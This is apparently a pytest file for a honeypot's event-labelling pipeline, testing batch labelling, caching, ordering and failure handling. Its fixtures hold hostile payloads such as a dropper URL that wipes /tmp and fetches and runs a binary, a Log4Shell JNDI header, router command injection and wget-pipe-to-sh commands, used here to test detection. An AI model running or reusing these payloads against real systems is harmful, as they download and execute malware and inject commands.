"""Labelling in batches (sensor/sinks.py LabellingSink, detect/sensorapi.py BatchLabeler): the same
labels as one event at a time, every event handed on in order, nothing lost when detection fails."""

from __future__ import annotations

import asyncio
import base64
import json
import socket
from collections.abc import Iterator, Sequence
from datetime import UTC, datetime

import pytest

from honeyguard.clock import SeededEntropy
from honeyguard.detect import load_labeler
from honeyguard.detect.labeler import RuleLabeler
from honeyguard.detect.sensorapi import BatchLabeler
from honeyguard.model import (
    Connect,
    Download,
    Event,
    EventBody,
    HttpRequest,
    Ioc,
    RawData,
    SshCommand,
    SshLogin,
    UuidV7Factory,
)
from honeyguard.sensor.http.parser import Request, RequestParser
from honeyguard.sensor.sinks import LabellingSink, MemorySink
from tests.conftest import SHARED

_IDS = UuidV7Factory(SeededEntropy(11))
_NOW = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
DROPPER = "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws"


@pytest.fixture(scope="module")
def labeler() -> RuleLabeler:
    return load_labeler()


def event(body: EventBody, protocol: str = "http") -> Event:
    return Event(
        id=_IDS.new(_NOW),
        ts=_NOW,
        sensor="s1",
        location="lab",
        session="sess",
        kind=body.__struct_config__.tag,
        src_ip="192.0.2.9",
        src_port=40000,
        dst_ip="127.0.0.1",
        dst_port=80,
        protocol=protocol,
        persona="apache-ubuntu",
        body=body,
    )


def get(
    target: str,
    *,
    headers: Sequence[tuple[str, str]] = (("Host", "127.0.0.1"),),
    body: bytes = b"",
    method: str = "GET",
) -> Event:
    return event(
        HttpRequest(
            method=method,
            target=target,
            version="HTTP/1.1",
            headers=list(headers),
            body=body,
            body_size=len(body),
            status=200,
        )
    )


def mixed_events() -> list[Event]:
    """What a sensor records: ordinary and exploit requests (some repeated), shell lines, logins,
    garbage, downloads, connects."""
    return [
        event(Connect()),
        get("/index.html"),
        get(DROPPER),
        get("/", headers=[("Host", "a"), ("User-Agent", "${jndi:ldap://203.0.113.5:1389/a}")]),
        get("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)"),
        get(
            "/index.php",
            method="POST",
            body=b"cmd=wget+http://203.0.113.77/x.sh+-O-|sh",
            headers=[("Host", "b"), ("Content-Type", "application/x-www-form-urlencoded")],
        ),
        get(DROPPER),  # a repeat: answered from the cache
        get("/index.html"),
        event(SshCommand(line="cd /tmp; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh", channel="shell"), "ssh"),
        event(SshLogin(username="root", method="password", password="admin"), "ssh"),
        event(
            RawData(reason="not-http", data=b"\x03\x00\x00\x13wget http://203.0.113.3/a", size=25, sha256="0"), "http"
        ),
        event(
            Download(url="http://203.0.113.9/bins.sh", tool="wget", command="wget http://203.0.113.9/bins.sh"), "ssh"
        ),
    ]


def test_batch_labels_equal_one_at_a_time(labeler: RuleLabeler) -> None:
    events = mixed_events()
    expected = [labeler.label(e) for e in events]
    batch = BatchLabeler(labeler)
    assert batch.label_many(events) == expected
    assert batch.label_many(events) == expected  # again: now cached (a request is cached at its second coming)
    assert [batch.label(e) for e in events] == expected  # from the cache
    assert expected[2].cves and expected[2].rules  # the dropper is labelled...
    assert Ioc(type="url", value="http://198.51.100.7/jaws", role="download") in expected[2].iocs
    assert not expected[1].rules and not expected[1].iocs  # ...an ordinary page is not


def test_wild_capture_as_the_sensor_records_it(labeler: RuleLabeler) -> None:
    """Every request of a real capture, parsed by the sensor's own parser, labelled in batches
    (with repeats, from the cache) exactly as one at a time."""
    events = []
    for line in (SHARED / "data" / "wild-http" / "requests.jsonl").read_text().splitlines():
        parser = RequestParser()
        parser.feed(base64.b64decode(json.loads(line)["request_b64"]))
        item = parser.next() or parser.finish()
        if isinstance(item, Request):
            events.append(
                event(
                    HttpRequest(
                        method=item.method,
                        target=item.target,
                        version=item.version,
                        headers=item.headers,
                        body=item.body,
                        body_size=item.body_size,
                        header_size=item.header_size,
                    )
                )
            )
    assert len(events) > 3000
    events += events[:500] * 2  # repeats: cached at the second coming, answered from the cache at the third
    expected = [labeler.label(e) for e in events]
    assert sum(bool(e.rules) for e in expected) > 1000
    batch = BatchLabeler(labeler)
    assert [x for i in range(0, len(events), 64) for x in batch.label_many(events[i : i + 64])] == expected


def test_cache_stays_within_its_byte_budget(labeler: RuleLabeler) -> None:
    batch = BatchLabeler(labeler, cache_bytes=20_000)
    events = [get(f"/index.html?page={n}") for n in range(200)]
    assert batch.label_many(events) == [labeler.label(e) for e in events]
    assert batch.cache.used_bytes == 0  # a request met once is not cached (admitted on its second coming)
    assert batch.label_many(events) == [labeler.label(e) for e in events]
    assert 0 < batch.cache.used_bytes <= 20_000
    assert len(batch.cache) < 200


def test_sink_hands_events_on_in_order_after_the_loop_turn(labeler: RuleLabeler) -> None:
    memory = MemorySink()
    sink = LabellingSink(labeler, memory)
    events = mixed_events()

    async def record() -> list[int]:
        seen = []
        for e in events:
            sink.emit(e)
            seen.append(len(memory.events()))
        await asyncio.sleep(0)  # the end of this turn of the loop
        seen.append(len(memory.events()))
        return seen

    assert asyncio.run(record()) == [0] * len(events) + [len(events)]
    assert memory.events() == [labeler.label(e) for e in events]


def test_a_full_batch_is_labelled_at_once(labeler: RuleLabeler) -> None:
    memory = MemorySink()
    sink = LabellingSink(labeler, memory, batch_size=4)

    async def record() -> int:
        for n in range(10):
            sink.emit(get(f"{DROPPER}&n={n}"))
        return len(memory.events())

    assert asyncio.run(record()) == 8  # two full batches; the last two waited for the loop turn
    assert len(memory.events()) == 10
    assert all(e.rules for e in memory.events())
    assert [e.body.target for e in memory.events()] == [f"{DROPPER}&n={n}" for n in range(10)]  # type: ignore[union-attr]


def test_outside_an_event_loop_events_are_labelled_at_once(labeler: RuleLabeler) -> None:
    memory = MemorySink()
    LabellingSink(labeler, memory).emit(get(DROPPER))
    assert [bool(e.rules) for e in memory.events()] == [True]


class Flaky:
    """A labeler whose batch call always fails and whose single call fails on one target."""

    def __init__(self, inner: RuleLabeler) -> None:
        self.inner = inner

    def label_many(self, events: list[Event]) -> list[Event]:
        raise RuntimeError("a detection bug")

    def label(self, e: Event) -> Event:
        if isinstance(e.body, HttpRequest) and e.body.target == "/boom":
            raise ValueError("another detection bug")
        return self.inner.label(e)


def test_a_failing_labeler_loses_no_event(labeler: RuleLabeler, caplog: pytest.LogCaptureFixture) -> None:
    memory = MemorySink()
    sink = LabellingSink(Flaky(labeler), memory)
    events = [get("/boom"), get(DROPPER), event(Connect())]

    async def record() -> None:
        for e in events:
            sink.emit(e)
        await asyncio.sleep(0)

    asyncio.run(record())
    assert memory.events() == [events[0], labeler.label(events[1]), events[2]]
    assert "labelling a batch of 3 events failed" in caplog.text


@pytest.fixture
def exploit_sensor(make_sensor, labeler: RuleLabeler) -> Iterator:  # type: ignore[no-untyped-def,type-arg]
    yield make_sensor(["http"], labeler=labeler)


def test_sensor_stores_every_event_labelled_and_in_order(exploit_sensor) -> None:  # type: ignore[no-untyped-def]
    port = exploit_sensor.port("http")
    requests = b"".join(b"GET %s&n=%d HTTP/1.1\r\nHost: x\r\n\r\n" % (DROPPER.encode(), n) for n in range(40))
    requests += b"GET /index.html HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port)) as client:
        client.sendall(requests)
        while client.recv(65536):
            pass
    events = exploit_sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert [e.kind for e in events] == ["connect"] + ["http.request"] * 41 + ["session.closed"]
    assert [e.id for e in events] == sorted(e.id for e in events)
    assert all("hg-tech-cmdi-download" in e.rules for e in events[1:41])
    assert all(Ioc(type="ip", value="198.51.100.7", role="download") in e.iocs for e in events[1:41])
    assert not events[41].rules


class Refusing(MemorySink):
    """A sink that fails on the dropper's events."""

    def emit(self, event: Event) -> None:
        if event.rules:
            raise OSError("disk full")
        super().emit(event)


def test_an_event_the_sink_refuses_does_not_take_the_batch_with_it(labeler: RuleLabeler) -> None:
    memory = Refusing()
    sink = LabellingSink(labeler, memory)
    events = [get("/a"), get(DROPPER), get("/b")]

    async def record() -> None:
        for e in events:
            sink.emit(e)
        await asyncio.sleep(0)

    asyncio.run(record())
    assert [e.body.target for e in memory.events()] == ["/a", "/b"]  # type: ignore[union-attr]
